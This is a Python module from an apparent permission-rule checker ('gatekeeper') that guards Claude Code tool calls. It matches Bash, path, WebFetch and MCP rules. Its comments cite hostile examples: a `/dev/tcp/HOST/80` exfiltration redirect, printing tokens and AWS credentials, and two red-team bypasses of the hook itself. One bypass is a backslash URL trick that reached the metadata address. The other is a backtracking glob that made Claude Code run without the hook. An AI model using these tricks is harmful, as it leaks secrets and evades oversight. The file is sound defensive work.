"""The user's own rules (pipeline stage 3), in Claude Code's permission-rule syntax.

``Tool`` or ``Tool(specifier)``:

* ``Bash(npm run test:*)``, ``Bash(git commit *)``: matched against each simple command of a
  Bash call on its own (``*`` matches anything, a trailing `` *`` or ``:*`` also matches
  nothing, so ``Bash(ls *)`` matches ``ls`` and ``ls -la`` but not ``lsof``). Deny and ask
  rules also match past wrappers (``timeout 5 X``, ``nice X``, ``env A=1 X``) and past
  leading ``NAME=value`` assignments; allow rules only past harmless assignments, and not
  over a redirect that leaves the allowed dirs or opens a socket, nor over a reader that
  prints a secret of the environment (``echo $GITHUB_TOKEN``).
* ``Read(~/notes/**)``, ``Edit(./src/**)``: gitignore-style path patterns (``//abs``,
  ``~/home-relative``, ``/project-relative``, ``./cwd-relative``; ``*`` within a segment,
  ``**`` across). ``Read`` covers Read, Glob, Grep, LS; ``Edit`` covers Edit, Write,
  MultiEdit, NotebookEdit, and shell write targets (redirects, ``tee``...) for deny/ask.
* ``WebFetch(domain:example.com)``, ``domain:*.example.com``.
* ``mcp__server``, ``mcp__server__*``, ``mcp__server__tool``.
* ``Agent(Explore)`` (subagent type), ``Skill(name *)``, and for deny/ask
  ``Tool(param:value)``.

deny → the call is denied with a reason naming the rule; ask → ELEVATE; allow → SAFE
without the checkers, except the protected-paths check, which always runs.
"""

from __future__ import annotations

import os

from gatekeeper.globmatch import fnmatchcase, star
from gatekeeper.lazyre import re
from gatekeeper.records import dataclass
from gatekeeper.shell.effects import write_targets
from gatekeeper.shell.envvars import HARMLESS_ENV, harmless_setting

TYPE_CHECKING = False  # typing.TYPE_CHECKING, without importing typing
if TYPE_CHECKING:
    from collections.abc import Callable

    from gatekeeper.model import Command, ToolCall
    from gatekeeper.paths import PathPolicy

ALLOW, ASK, DENY = "allow", "ask", "deny"

_READ_TOOLS = {"Read", "Glob", "Grep", "LS", "NotebookRead"}
_EDIT_TOOLS = {"Edit", "Write", "MultiEdit", "NotebookEdit"}
_WRAPPERS = {
    "timeout",
    "time",
    "nice",
    "nohup",
    "stdbuf",
    "command",
    "builtin",
    "noglob",
    "xargs",
    "env",
    "ionice",
}
# What a tool name (`Bash`, `mcp__server__*`) is made of.
_TOOL_CHARS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_*.-")


class RuleError(ValueError):
    """A rule that does not parse."""


@dataclass(frozen=True, slots=True)
class Rule:
    """One parsed permission rule."""

    text: str
    kind: str  # allow / ask / deny
    tool: str
    spec: str | None


def parse_rule(text: str, kind: str) -> Rule:
    """Parse `Tool` or `Tool(specifier)`; raise RuleError with a reason otherwise."""
    stripped = text.strip()
    parsed = _split_rule(stripped)
    if parsed is None:
        raise RuleError(f"`{text}` is not `Tool` or `Tool(specifier)`")
    tool, spec = parsed
    if spec is not None and spec.strip() in ("", "*"):
        spec = None  # `Bash(*)` is `Bash`
    if kind == ALLOW and tool.startswith("mcp__") is False and "*" in tool:
        raise RuleError(f"`{text}`: an allow rule cannot use a wildcard tool name")
    if tool == "Bash" and spec is not None and ":*" in spec[:-2]:
        raise RuleError(f"`{text}`: `:*` is only valid at the end of the pattern")
    if tool == "WebFetch" and spec is not None and not spec.startswith("domain:"):
        raise RuleError(f"`{text}`: WebFetch rules take `domain:HOST`")
    return Rule(stripped, kind, tool, spec)


def _split_rule(text: str) -> tuple[str, str | None] | None:
    """`Tool` → (Tool, None); `Tool(spec)` → (Tool, spec), the spec up to the last `)`.

    What ``^([A-Za-z0-9_*.-]+(?:__[A-Za-z0-9_*.-]+)*)(?:\\((.*)\\))?$`` (DOTALL) matched on
    the stripped text, without `re` (tests/test_cold_equivalence.py compares the two).
    """
    end = 0
    while end < len(text) and text[end] in _TOOL_CHARS:
        end += 1
    if end == 0:
        return None
    if end == len(text):
        return text, None
    if text[end] == "(" and text.endswith(")") and len(text) - 1 > end:
        return text[:end], text[end + 1 : -1]
    return None


def parse_rules(texts: tuple[str, ...], kind: str) -> tuple[tuple[Rule, ...], tuple[str, ...]]:
    """Parse a list of rules; bad ones are returned as warnings, never raised."""
    rules: list[Rule] = []
    problems: list[str] = []
    for text in texts:
        try:
            rules.append(parse_rule(text, kind))
        except RuleError as exc:
            problems.append(f"[permissions] {kind}: {exc}; the rule is ignored")
    return tuple(rules), tuple(problems)


def _bash_matcher(spec: str) -> Callable[[str], bool]:
    """Whether a whole command string matches a `Bash(...)` spec: ``*`` matches anything, a
    trailing `` *`` or ``:*`` also matches nothing (``Bash(ls *)``: ``ls``, ``ls -la``)."""
    if spec.endswith(":*"):
        spec = spec[:-2] + " *"
    trailing = spec.endswith(" *")
    body = spec[:-2] if trailing else spec
    exact = star(body)
    if not trailing:
        return exact
    longer = star(body + " *")
    return lambda text: exact(text) or longer(text)


def _command_strings(command: Command, kind: str) -> list[str]:
    """The forms of a command a rule is matched against."""
    words = list(command.argv)
    forms = []
    if kind == ALLOW:
        # (`PAGER=cat mytool` as `mytool`: a harmless value too, `envvars.harmless_value`)
        if all(
            name in HARMLESS_ENV or (not value.dynamic and harmless_setting(name, value.text))
            for name, value in command.assignments
        ):
            forms.append(" ".join(words))
        return forms
    forms.append(" ".join(words))
    if command.assignments:
        forms.append(
            " ".join(f"{n}={w.text}" for n, w in command.assignments) + " " + " ".join(words)
        )
    # Strip wrappers (and their options) for deny/ask: `timeout 5 git push` is `git push`.
    rest = words
    for _ in range(8):
        if not rest or rest[0].rsplit("/", 1)[-1] not in _WRAPPERS:
            break
        rest = rest[1:]
        while rest and (
            rest[0].startswith("-") or "=" in rest[0] or rest[0].replace(".", "").isdigit()
        ):
            rest = rest[1:]
        forms.append(" ".join(rest))
    if words and "/" in words[0]:
        forms.append(" ".join([words[0].rsplit("/", 1)[-1], *words[1:]]))
    return forms


def match_command(rule: Rule, command: Command, paths: PathPolicy) -> bool:
    """Does a rule match one simple command of a Bash call?"""
    if rule.tool == "Bash":
        if rule.spec is None:
            return True
        matches = _bash_matcher(rule.spec)
        if not any(matches(form) for form in _command_strings(command, rule.kind)):
            return False
        if rule.kind != ALLOW:
            return True
        if command.redirects and not _redirects_stay(command, paths):
            return False
        return not _prints_a_secret(command)
    if rule.tool == "Edit" and rule.kind != ALLOW and rule.spec is not None:
        return any(
            not word.dynamic and _path_match(rule, paths.resolve(word.text), paths)
            for word, _ in write_targets(command)
        )
    return False


def _redirects_stay(command: Command, paths: PathPolicy) -> bool:
    """Whether a command's redirects stay where the gate lets any command go.

    An allow rule vouches for the words it matched, not for a redirect it never saw:
    `make test > /dev/tcp/HOST/80` sends the output over the network (bash opens the
    socket) and `echo x > ../f` writes outside the project. Such a command goes to the
    checkers as if no rule matched. A target known only at run time is GK-PROT-005's.
    """
    from gatekeeper.paths import ALLOWED, DEVICE, NETWORK, TMP

    for r in command.redirects:
        target = r.target
        if target.dynamic:
            continue
        if ">" not in r.op:  # a read: only a socket is more than the rule's own command
            if paths.classify(target.text, write=False)[0] == NETWORK:
                return False
            continue
        if r.op in (">&", "<>") and (target.text.isdigit() or target.text == "-"):
            continue  # descriptor duplication (2>&1, >&2), not a file
        if paths.classify(target.text, write=True)[0] not in (ALLOWED, TMP, DEVICE):
            return False
    return True


def _prints_a_secret(command: Command) -> bool:
    """Whether a reader or printer prints a secret of the environment (GK-ENV-002 ELEVATE).

    `Bash(echo *)` vouches for `echo`, not for `echo $GITHUB_TOKEN`: a token printed goes to
    the transcript like `cat ~/.aws/credentials`, which the protected-paths check asks for
    under any rule. A secret handed to another program (`curl -H "...$TOKEN"`) stays the
    rule's to allow.
    """
    from gatekeeper.shell.secretenv import printed_secret

    if not printed_secret(command):
        return False
    from gatekeeper.model import Verdict
    from gatekeeper.plugins.environment import printed_secret_finding

    found = printed_secret_finding(command)
    return found is not None and found.verdict is Verdict.ELEVATE


def match_tool(rule: Rule, call: ToolCall, paths: PathPolicy) -> bool:
    """Does a rule match a (non-Bash) tool call?"""
    tool = call.tool_name
    if rule.tool.startswith("mcp__") or "*" in rule.tool:
        return _match_mcp(rule, tool)
    if (rule.tool == "Read" and tool in _READ_TOOLS) or (
        rule.tool == "Edit" and tool in _EDIT_TOOLS
    ):
        if rule.spec is None:
            return True
        raw = call.text("file_path") or call.text("notebook_path") or call.text("path")
        if not raw and tool in ("Glob", "Grep", "LS"):
            raw = call.cwd
        if not raw:
            return False
        matched = _path_match(rule, paths.resolve(raw), paths)
        # A `..` after a link: Node (the file tools) takes it by name, the kernel after the
        # link (`PathPolicy.by_name`). An allow rule must hold for both places, a deny or
        # ask rule for either (`~/notes/link/../../work/x` is no note, written by Node).
        named = paths.by_name(raw)
        if named is None:
            return matched
        by_name = _path_match(rule, paths.resolve(named), paths)
        return (matched and by_name) if rule.kind == ALLOW else (matched or by_name)
    if rule.tool != tool:
        return False
    if rule.spec is None:
        return True
    if tool == "WebFetch":
        return _domain_match(rule.spec[len("domain:") :], call.text("url"))
    if tool in ("Agent", "Task"):
        return fnmatchcase(call.text("subagent_type"), rule.spec)
    if tool == "Skill":
        skill = " ".join(filter(None, (call.text("skill"), call.text("args"))))
        return _bash_matcher(rule.spec)(skill)
    if ":" in rule.spec and rule.kind != ALLOW:
        param, value = rule.spec.split(":", 1)
        got = call.tool_input.get(param)
        rendered = str(got).lower() if isinstance(got, bool) else str(got)
        return got is not None and fnmatchcase(rendered, value)
    return False


def _match_mcp(rule: Rule, tool: str) -> bool:
    pattern = rule.tool
    if rule.kind == ALLOW:
        # Allow globs only after a literal `mcp__server__` prefix.
        parts = pattern.split("__")
        if len(parts) == 2:
            return tool == pattern or tool.startswith(pattern + "__")
        if "*" in "__".join(parts[:2]):
            return False
        return fnmatchcase(tool, pattern)
    if pattern.count("__") == 1 and "*" not in pattern:
        return tool == pattern or tool.startswith(pattern + "__")
    return fnmatchcase(tool, pattern)


def _domain_match(pattern: str, url: str) -> bool:
    """Whether a `domain:` pattern names the host of `url`, as every reader of it sees it.

    The host as written after `scheme://` and an `user@`, and the host a WHATWG parser
    (Node's `URL`, which WebFetch uses) reads: it takes `\\` for `/`, so
    `http://169.254.169.254\\@example.com/` is the metadata address, not example.com (bash:
    Node's `fetch` of `http://127.0.0.1:PORT\\@example.com/x` reached 127.0.0.1). A rule for
    example.com vouched for it, and the allow skipped the local-address check (redteam17).
    """
    m = re.match(r"^[A-Za-z][A-Za-z0-9+.-]*://(?:[^@/?#]*@)?(\[[^\]]*\]|[^:/?#]*)", url)
    if not m:
        return False
    from gatekeeper.urls import _whatwg_host

    pattern = pattern.lower()
    hosts = {m.group(1).lower().rstrip(".")}
    other = _whatwg_host(url)
    if other:
        hosts.add(other)
    return all(_host_match(pattern, host) for host in hosts)


def _host_match(pattern: str, host: str) -> bool:
    if pattern.startswith("*."):
        return host.endswith(pattern[1:]) and host != pattern[2:]
    return fnmatchcase(host, pattern) and host.count(".") == pattern.count(".")


def _path_match(rule: Rule, path: str, paths: PathPolicy) -> bool:
    spec = rule.spec or ""
    if spec.startswith("//"):
        base, pattern = "/", spec[2:]
    elif spec.startswith("~/"):
        base, pattern = paths.home, spec[2:]
    elif spec.startswith("/"):
        base, pattern = paths.allowed[0] if paths.allowed else paths.cwd, spec[1:]
    else:
        base, pattern = paths.cwd, spec[2:] if spec.startswith("./") else spec
    anywhere = (
        "/" not in pattern.rstrip("/")
        and rule.kind != ALLOW
        and not spec.startswith(("/", "~", "."))
    )
    matches = _glob_matcher(pattern)
    rel = (
        os.path.relpath(path, base)
        if path.startswith(base.rstrip("/") + "/") or path == base
        else None
    )
    if rel is not None and matches(rel):
        return True
    if anywhere:
        return matches(os.path.basename(path))
    return False


_GLOB_MATCHERS: dict[str, Callable[[str], bool]] = {}


def _glob_matcher(pattern: str) -> Callable[[str], bool]:
    """A test of a whole path against a gitignore-style pattern, in time linear in the path.

    The pattern means the regex ``**/`` → ``(?:.*/)?``, ``**`` → ``.*``, ``*`` → ``[^/]*``,
    ``?`` → ``[^/]``, any other character itself, and ``.*`` appended after a trailing
    ``/`` (DOTALL, fully matched). That regex, run by `re`, backtracks without bound: a
    project's deny rule ``Edit(//**…**q)`` (forty ``**``) kept `re` busy for minutes on every
    Write, so the hook never answered and Claude Code, at its hook timeout, went on without
    gatekeeper (redteam17). Here the pattern is an automaton whose states are the bits of
    an int, all advanced at once for each character of the path.
    """
    test = _GLOB_MATCHERS.get(pattern)
    if test is None:
        if len(_GLOB_MATCHERS) >= 256:
            _GLOB_MATCHERS.clear()
        test = _GLOB_MATCHERS[pattern] = _compile_glob(pattern)
    return test


def _compile_glob(pattern: str) -> Callable[[str], bool]:
    """`_glob_matcher`'s automaton: bit i of a state set is "before item i"."""
    literal: dict[str, int] = {}  # a character -> the items that are that character
    one = star = dstar = dirs = 0  # the items that are `?`, `*`, `**` and `**/`
    bit, i = 1, 0
    while i < len(pattern):
        if pattern.startswith("**/", i):
            dirs |= bit
            i += 3
        elif pattern.startswith("**", i):
            dstar |= bit
            i += 2
        elif pattern[i] == "*":
            star |= bit
            i += 1
        elif pattern[i] == "?":
            one |= bit
            i += 1
        else:
            literal[pattern[i]] = literal.get(pattern[i], 0) | bit
            i += 1
        bit <<= 1
    if pattern.endswith("/"):
        dstar |= bit
        bit <<= 1
    accept = bit  # the state after the last item
    # An item that may match nothing (`*`, `**`, `**/`) is stepped over at no cost: from a
    # state, every state after a run of such items. By doubling: `skips` holds (the items
    # from which `by` such items in a row follow, by), for `by` = 1, 2, 4...
    skips: list[tuple[int, int]] = []
    empty, by = star | dstar | dirs, 1
    while empty:
        skips.append((empty, by))
        empty &= empty >> by
        by <<= 1
    slash_moves = literal.get("/", 0) | dirs  # what a `/` completes: itself, a `**/`
    other_stays = dstar | star

    def close(states: int) -> int:
        for starts, step in skips:
            states |= (states & starts) << step
        return states

    start = close(1)

    def match(text: str) -> bool:
        states, inside = start, 0  # `inside`: the `**/` items whose `.*` has begun
        for c in text:
            if c == "/":
                moved = ((states & slash_moves) | inside) << 1
                stayed = states & dstar
            else:
                moved = (states & (literal.get(c, 0) | one)) << 1
                stayed = states & other_stays
            inside = (states | inside) & dirs
            states = close(moved | stayed)
            if not states and not inside:
                return False
        return bool(states & accept)

    return match
